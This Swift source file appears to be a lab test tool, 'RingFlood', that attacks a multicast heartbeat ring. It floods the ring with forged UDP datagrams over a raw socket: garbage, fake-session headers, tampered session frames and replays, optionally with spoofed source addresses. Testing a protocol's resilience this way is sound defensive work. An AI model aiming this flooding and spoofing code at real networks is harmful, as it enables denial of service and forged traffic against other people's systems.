@preconcurrency import Glibc

/// An attacker on the ring without the key: sends forged datagrams as fast as told, with any source address.
///
/// Frames are built whole and handed to a packet-level socket in batches, so that the attacker is not slower than an
/// attacker would be.
package struct RingFlood {
    /// What the datagrams look like.
    package enum Kind: String, CaseIterable, Sendable {
        /// Anything but a heartbeat.
        case garbage
        /// A true head with a session nobody has.
        case header
        /// A true head and session, the next counters, and a tag that is wrong; from the sender's own address.
        case session
        /// A true heartbeat, again and again.
        case replay
    }

    private static let batch = 64

    package var kind: Kind
    package var perSecond: Int
    package var seconds: Double
    package var own: String
    package var group: String
    /// An address, or the group.
    package var target: String
    /// Another source address for each datagram.
    package var isSpoofing: Bool

    package init(
        kind: Kind, perSecond: Int, seconds: Double, own: String, group: String, target: String,
        isSpoofing: Bool
    ) {
        self.kind = kind
        self.perSecond = perSecond
        self.seconds = seconds
        self.own = own
        self.group = group
        self.target = target
        self.isSpoofing = isSpoofing
    }

    /// Sends for its time; returns how many datagrams went out.
    package func run() throws -> Int {
        var sample: RingCapture.Datagram?
        do {
            let capture = try RingCapture(group: group, own: own)
            for _ in 0..<100 where sample == nil || sample?.from == own || sample?.from == target {
                sample = capture.next(milliseconds: 100)
            }
        }
        guard let sample else { throw LabFailure("nobody sends heartbeats to \(group)") }
        let raw = socket(AF_INET, Int32(SOCK_RAW.rawValue | SOCK_CLOEXEC.rawValue), Int32(IPPROTO_RAW))
        guard raw >= 0 else { throw LabFailure("no raw socket: \(String(cString: strerror(errno)))") }
        defer { close(raw) }
        var interface = ip_mreqn()
        inet_pton(AF_INET, own, &interface.imr_address)
        setsockopt(
            raw, Int32(IPPROTO_IP), IP_MULTICAST_IF, &interface, socklen_t(MemoryLayout<ip_mreqn>.size))
        return try send(from: raw, packet(around: sample))
    }

    /// An IPv4 packet with a UDP datagram without checksum.
    private func packet(around sample: RingCapture.Datagram) throws -> [UInt8] {
        var body = sample.bytes
        if kind == .garbage { body = [UInt8](repeating: 0xA5, count: body.count) }
        let length = 28 + body.count
        var packet: [UInt8] = [0x45, 0, UInt8(length >> 8), UInt8(length & 255), 0, 0, 0, 0, 1, 17, 0, 0]
        packet += bytes(of: kind == .session || kind == .replay ? sample.from : own) + bytes(of: target)
        let port = RingCapture.port
        packet += [UInt8(port >> 8), UInt8(port & 255), UInt8(port >> 8), UInt8(port & 255)]
        packet += [UInt8((8 + body.count) >> 8), UInt8((8 + body.count) & 255), 0, 0]
        return packet + body
    }

    private func bytes(of text: String) -> [UInt8] {
        var address = in_addr()
        inet_pton(AF_INET, text, &address)
        return withUnsafeBytes(of: &address) { Array($0) }
    }

    private typealias SendMany = @convention(c) (Int32, UnsafeMutableRawPointer, UInt32, Int32) -> Int32

    /// As the kernel's `struct mmsghdr`.
    private struct Message {
        var header = msghdr()
        var length: UInt32 = 0
    }

    private func send(from raw: Int32, _ packet: [UInt8]) throws -> Int {
        guard let symbol = dlsym(nil, "sendmmsg") else { throw LabFailure("the C library has no sendmmsg") }
        let sendMany = unsafeBitCast(symbol, to: SendMany.self)
        let size = packet.count
        let room = UnsafeMutableRawBufferPointer.allocate(byteCount: size * Self.batch, alignment: 8)
        let vectors = UnsafeMutablePointer<iovec>.allocate(capacity: Self.batch)
        let messages = UnsafeMutablePointer<Message>.allocate(capacity: Self.batch)
        var name = UDPSocket.address(target, 0)
        defer {
            room.deallocate()
            vectors.deallocate()
            messages.deallocate()
        }
        return withUnsafeMutablePointer(to: &name) { name in
            for place in 0..<Self.batch {
                for (offset, byte) in packet.enumerated() { room[place * size + offset] = byte }
                vectors.advanced(by: place).initialize(
                    to: iovec(iov_base: room.baseAddress?.advanced(by: place * size), iov_len: size))
                var message = Message()
                message.header.msg_name = UnsafeMutableRawPointer(name)
                message.header.msg_namelen = socklen_t(MemoryLayout<sockaddr_in>.size)
                message.header.msg_iov = vectors.advanced(by: place)
                message.header.msg_iovlen = 1
                messages.advanced(by: place).initialize(to: message)
            }
            return pace { number in
                for place in 0..<Self.batch { vary(room, place * size, number + place) }
                return Int(max(sendMany(raw, messages, UInt32(Self.batch), 0), 0))
            }
        }
    }

    /// Makes each datagram another one.
    private func vary(_ room: UnsafeMutableRawBufferPointer, _ start: Int, _ number: Int) {
        let mixed = UInt64(truncatingIfNeeded: number) &* 0x9E37_79B9_7F4A_7C15
        let body = start + 28
        switch kind {
        case .garbage, .header:
            // The session, behind version, cluster and key.
            room.storeBytes(of: mixed, toByteOffset: body + 13, as: UInt64.self)
        case .session:
            // The counter goes up, so that it is not taken for a copy; the tag is as it was, and so is wrong.
            let counter =
                UInt64(bigEndian: room.loadUnaligned(fromByteOffset: body + 29, as: UInt64.self)) + 64
            room.storeBytes(of: counter.bigEndian, toByteOffset: body + 29, as: UInt64.self)
        case .replay: break
        }
        if isSpoofing {
            room[start + 14] = UInt8(truncatingIfNeeded: mixed >> 40)
            room[start + 15] = UInt8(truncatingIfNeeded: mixed >> 48)
        }
    }

    /// Sends batches so that the rate is kept, for the time given; what cannot be sent in time is not made up for.
    private func pace(_ next: (Int) -> Int) -> Int {
        let start = BootTime.now
        var sent = 0
        while true {
            let passed = BootTime.now.milliseconds(since: start)
            if passed >= seconds * 1000 { return sent }
            if Double(sent) > passed / 1000 * Double(perSecond) {
                usleep(200)
                continue
            }
            let count = next(sent)
            sent += max(count, 1)
        }
    }
}
